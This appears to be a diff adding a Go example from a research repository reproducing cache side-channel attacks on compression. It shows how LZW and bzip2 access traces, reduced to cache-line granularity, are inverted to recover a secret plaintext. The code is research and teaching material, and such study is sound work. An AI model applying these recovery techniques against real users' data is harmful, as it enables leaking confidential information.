@@ -1,0 +1,74 @@
+// Leak-recovery example: for each of the three compression families, run
+// the real from-scratch compressor over a secret, reduce the gadget's
+// access stream to what a cache attacker sees (line granularity), and
+// invert it back to plaintext with the paper's §IV computations — no
+// cache simulator involved, just the algorithmic core of the attacks.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"github.com/zipchannel/zipchannel/internal/compress/bwt"
+	"github.com/zipchannel/zipchannel/internal/compress/lzw"
+	"github.com/zipchannel/zipchannel/internal/recovery"
+)
+
+// lzwProbes collects the ncompress gadget's primary hash probes, masked
+// to cache-line granularity.
+type lzwProbes struct{ obs []uint64 }
+
+func (p *lzwProbes) Probe(hp uint64, primary bool) {
+	if primary {
+		p.obs = append(p.obs, hp>>3)
+	}
+}
+
+// ftabTrace collects bzip2's histogram indices as misaligned line offsets.
+type ftabTrace struct {
+	bwt.BaseTracer
+	offs recovery.BzipTrace
+}
+
+func (f *ftabTrace) FtabInc(j uint16) {
+	const base = 0x40014 // ftab base, 20 bytes past a line boundary
+	lineStart := (uint64(base) + 4*uint64(j)) &^ 63
+	f.offs = append(f.offs, int64(lineStart)-int64(base))
+}
+
+func main() {
+	secret := []byte("the attacker reconstructs this entire sentence from cache lines")
+
+	// --- LZ78 / ncompress: full recovery via dictionary replay (§IV-C).
+	var probes lzwProbes
+	if _, err := lzw.Compress(secret, &probes); err != nil {
+		log.Fatal(err)
+	}
+	cands, err := recovery.RecoverLZW(probes.obs, 3, func(first byte) recovery.EntReplayer {
+		return lzw.NewReplayer(first)
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	best, err := recovery.BestLZW(cands)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("lzw   recovered: %q\n", best.Plaintext)
+
+	// --- BWT / bzip2: histogram inversion with off-by-one redundancy
+	// (§IV-D); the trace comes from the real compressor's mainSort.
+	var ft ftabTrace
+	if _, err := bwt.Compress(secret, bwt.Options{Tracer: &ft, BlockSize: len(secret)}); err != nil {
+		log.Fatal(err)
+	}
+	res, err := recovery.RecoverBzip(ft.offs, len(secret), 64)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("bzip2 recovered: %q\n", res.Block)
+
+	byteAcc, bitAcc := res.Accuracy(secret)
+	fmt.Printf("\nbzip2 accuracy: %.0f%% of bytes, %.1f%% of bits\n", 100*byteAcc, 100*bitAcc)
+	fmt.Println("(zlib's partial recovery is shown by `experiments -run survey`)")
+}
